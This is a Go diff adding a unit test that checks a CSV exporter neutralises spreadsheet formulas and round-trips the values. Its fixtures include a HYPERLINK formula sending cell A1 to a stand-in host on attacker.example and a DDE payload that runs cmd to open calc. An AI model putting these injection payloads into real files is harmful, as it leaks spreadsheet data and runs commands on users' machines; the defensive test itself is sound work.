@@ -32,6 +32,40 @@ func TestCSVRoundTrip(t *testing.T) {
 	}
 }
 
+// TestCSVExportNeutralisesFormulas: a source note or category label that a
+// spreadsheet would run as a formula is written with an apostrophe in front,
+// and the import reads the scale back unchanged.
+func TestCSVExportNeutralisesFormulas(t *testing.T) {
+	v := Seed()
+	v.SourceNote = `=HYPERLINK("http://attacker.example/?"&A1,"JC 323")`
+	v.Categories[0].Label = "@SUM(1+1)*cmd|' /C calc'!A0"
+	v.Categories[1].Label = "-Cleaning+"
+	var buf bytes.Buffer
+	if err := ExportCSV(&buf, v); err != nil {
+		t.Fatal(err)
+	}
+	out := buf.String()
+	for _, want := range []string{`source_note,"'=HYPERLINK(`, `,'@SUM(1+1)*cmd|' /C calc'!A0`, ",'-Cleaning+"} {
+		if !strings.Contains(out, want) {
+			t.Errorf("export lacks %s:\n%s", want, out)
+		}
+	}
+	for _, line := range strings.Split(out, "\n") {
+		for _, cell := range strings.Split(line, ",") {
+			if cell != "" && strings.ContainsRune("=+-@", rune(strings.TrimPrefix(cell, `"`)[0])) {
+				t.Errorf("cell %q of line %q starts with a formula character", cell, line)
+			}
+		}
+	}
+	got, err := ImportCSV(&buf)
+	if err != nil {
+		t.Fatal(err)
+	}
+	if got.SourceNote != v.SourceNote || got.Categories[0].Label != v.Categories[0].Label || got.Categories[1].Label != v.Categories[1].Label {
+		t.Errorf("read back %q %q %q", got.SourceNote, got.Categories[0].Label, got.Categories[1].Label)
+	}
+}
+
 func TestCSVExportIsStable(t *testing.T) {
 	var a, b bytes.Buffer
 	if err := ExportCSV(&a, Seed()); err != nil {
